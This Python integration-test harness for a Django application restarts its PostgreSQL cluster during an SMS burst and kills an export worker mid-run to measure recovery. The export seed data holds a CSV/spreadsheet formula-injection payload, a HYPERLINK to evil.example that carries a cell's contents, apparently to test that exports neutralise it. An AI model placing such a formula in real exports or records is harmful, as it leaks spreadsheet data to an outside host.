"""The two failures of issue 13 played for real, for tests/integration and bench/worker_restart.py:
the application (its `run_workers` supervisor, a producer of SMS, `manage.py` commands) runs in
processes of its own against a PostgreSQL cluster of its own, which the scenario restarts, and
whose worker it kills."""

from __future__ import annotations

import collections
import datetime
import json
import os
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import psycopg

from .pg_cluster import PgCluster

ROOT = Path(__file__).resolve().parents[2]
EXPORT_TIME_LIMIT = 4  # seconds: short, so a killed export is run again within the test


class App:
    """The application's environment on the cluster: DATA_DIR (keys, outbox, uploads) of its own."""

    def __init__(self, cluster: PgCluster, data_dir: Path):
        self.cluster, self.data_dir = cluster, data_dir
        self.outbox = data_dir / "sms-outbox.jsonl"
        self.exports = data_dir / "uploads" / "exports"
        self.env = {
            **os.environ,
            "DJANGO_SETTINGS_MODULE": "config.settings",
            "ACCREG_ENV": "development",  # generated keys in DATA_DIR, no TOTP: a developer's machine
            "DATABASE_URL": cluster.url,
            "DATA_DIR": str(data_dir),
            "TASKS_BACKEND": "database",
            "TASK_TIME_LIMITS": json.dumps({"accreg.review.exports.write_export": EXPORT_TIME_LIMIT}),
            "WORKER_HOUSEKEEPING_SECONDS": "1",
            "LOG_LEVEL": "WARNING",
        }
        for name in ("REDIS_URL", "MEDIA_ROOT", "SMS_BACKEND"):
            self.env.pop(name, None)
        self.workers: subprocess.Popen[bytes] | None = None
        self.worker_log = data_dir / "workers.log"

    def manage(self, *args: str) -> str:
        done = subprocess.run(
            [sys.executable, "manage.py", *args], cwd=ROOT, env=self.env, capture_output=True, text=True, timeout=120
        )
        if done.returncode:
            raise AssertionError(f"manage.py {' '.join(args)} failed:\n{done.stdout}\n{done.stderr}")
        return done.stdout

    def prepare(self) -> None:
        self.data_dir.mkdir(parents=True, exist_ok=True)
        self.manage("migrate", "--verbosity", "0")
        self.manage("load_regions")

    def start_workers(self) -> None:
        log = self.worker_log.open("ab")
        self.workers = subprocess.Popen(
            [sys.executable, "manage.py", "run_workers", "--interval", "0.2"],
            cwd=ROOT,
            env=self.env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )

    def stop_workers(self) -> None:
        if self.workers is not None and self.workers.poll() is None:
            self.workers.send_signal(signal.SIGTERM)
            try:
                self.workers.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.workers.kill()
        self.workers = None

    def sql(self, query: str, *params: object) -> list[tuple]:
        with psycopg.connect(self.cluster.url.replace("postgres://", "postgresql://"), autocommit=True) as conn:
            return conn.execute(query, params).fetchall()

    def outbox_lines(self) -> list[dict]:
        if not self.outbox.exists():
            return []
        return [json.loads(line) for line in self.outbox.read_text(encoding="utf-8").splitlines() if line.strip()]


@dataclass(frozen=True)
class SmsRestartResult:
    queued: int
    producer_retries: int
    delivered: collections.Counter[str]
    db_back_at: float  # wall clock, as every time below
    lags: list[float]  # per message delivered: seconds from its queueing to its delivery
    last_sent_at: float
    worker_log: str

    @property
    def seconds_from_db_back_to_all_delivered(self) -> float:
        return self.last_sent_at - self.db_back_at


def sms_across_restart(app: App, *, count: int = 150, rate: float = 50, down_seconds: float = 1.0) -> SmsRestartResult:
    """Queue `count` SMS at `rate` a second; once a third are queued, restart the database (fast
    shutdown: every connection cut) and keep queueing; wait up to a minute after it is back for
    all of them to be in the outbox (and a moment more, for any sent twice)."""
    app.outbox.unlink(missing_ok=True)
    [(before,)] = app.sql("SELECT count(*) FROM django_tasks_database_dbtaskresult WHERE queue_name = 'sms'")
    producer = subprocess.Popen(
        [sys.executable, "-m", "tests.integration.sms_burst", str(count), str(rate)],
        cwd=ROOT,
        env=app.env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    while producer.poll() is None:
        [(now,)] = app.sql("SELECT count(*) FROM django_tasks_database_dbtaskresult WHERE queue_name = 'sms'")
        if now - before >= count // 3:
            break
        time.sleep(0.05)
    app.cluster.restart(down_seconds=down_seconds)
    db_back_at = time.time()
    out, err = producer.communicate(timeout=120)
    assert producer.returncode == 0, err
    report = json.loads(out.strip().splitlines()[-1])
    deadline = db_back_at + 60
    while time.time() < deadline and len(app.outbox_lines()) < count:
        time.sleep(0.2)
    time.sleep(1.0)
    lines = app.outbox_lines()
    sent = {line["text"]: datetime.datetime.fromisoformat(line["sent_at"]).timestamp() for line in lines}
    queued = {f"【测试】第{i}条": at for i, at in enumerate(report["queued_at"])}
    return SmsRestartResult(
        queued=report["queued"],
        producer_retries=report["retries"],
        delivered=collections.Counter(line["text"] for line in lines),
        db_back_at=db_back_at,
        lags=sorted(sent[text] - queued[text] for text in sent if text in queued),
        last_sent_at=max(sent.values(), default=float("inf")),
        worker_log=app.worker_log.read_text(errors="replace"),
    )


SEED_EXPORT = """
from accreg.accounts.models import Staff
from accreg.accounts.services.staff import create_staff
from tests.review.conftest import make_submission
if not Staff.objects.filter(username="export-bench").exists():
    create_staff("export-bench", password="Ceshi-Mima-2026", department_code="410100", role="reviewer")
    make_submission("410105", unit='=HYPERLINK("http://evil.example/?x="&B2,"点击")')
"""
START_EXPORT = """
from accreg.accounts.models import Staff
from accreg.review.exports import start_export
print(start_export(Staff.objects.get(username="export-bench"), status="pending", ip=None).pk)
"""


@dataclass(frozen=True)
class ExportKillResult:
    export_id: int
    killed_pid: int
    state: str
    rows: int
    files: list[str]
    worker_ids: list[str]
    seconds_from_kill_to_done: float
    worker_log: str


def export_killed_mid_run(app: App, *, patience: float = 60) -> ExportKillResult:
    """Start an export; while its worker reads the records (held by a table lock the scenario takes
    first, so the kill lands mid-run every time), SIGKILL that worker; wait for the export to finish."""
    app.manage("shell", "-c", SEED_EXPORT)
    with psycopg.connect(app.cluster.url.replace("postgres://", "postgresql://")) as blocker:
        blocker.execute("LOCK TABLE collection_record IN ACCESS EXCLUSIVE MODE")
        export_id = int(app.manage("shell", "-c", START_EXPORT).strip().splitlines()[-1])
        deadline = time.monotonic() + patience
        while time.monotonic() < deadline:
            running = app.sql(
                "SELECT e.state, t.worker_ids FROM review_export e, django_tasks_database_dbtaskresult t"
                " WHERE e.id = %s AND t.task_path = 'accreg.review.exports.write_export'"
                " AND t.args_kwargs->'args'->>0 = %s AND t.status = 'RUNNING'",
                export_id,
                str(export_id),
            )
            if running and running[0][0] == "running":
                break
            time.sleep(0.05)
        else:
            raise AssertionError("the export never started")
        killed_pid = int(running[0][1][-1].split(":")[1])
        os.kill(killed_pid, signal.SIGKILL)
        killed_at = time.monotonic()
        blocker.rollback()  # the records can be read again
    while time.monotonic() < deadline:
        [(state, rows)] = app.sql("SELECT state, rows FROM review_export WHERE id = %s", export_id)
        if state in ("done", "failed"):
            break
        time.sleep(0.2)
    done_at = time.monotonic()
    [(worker_ids,)] = app.sql(
        "SELECT worker_ids FROM django_tasks_database_dbtaskresult WHERE args_kwargs->'args'->>0 = %s"
        " AND task_path = 'accreg.review.exports.write_export'",
        str(export_id),
    )
    return ExportKillResult(
        export_id=export_id,
        killed_pid=killed_pid,
        state=state,
        rows=rows,
        files=sorted(p.name for p in app.exports.glob("*")) if app.exports.exists() else [],
        worker_ids=worker_ids,
        seconds_from_kill_to_done=done_at - killed_at,
        worker_log=app.worker_log.read_text(errors="replace"),
    )
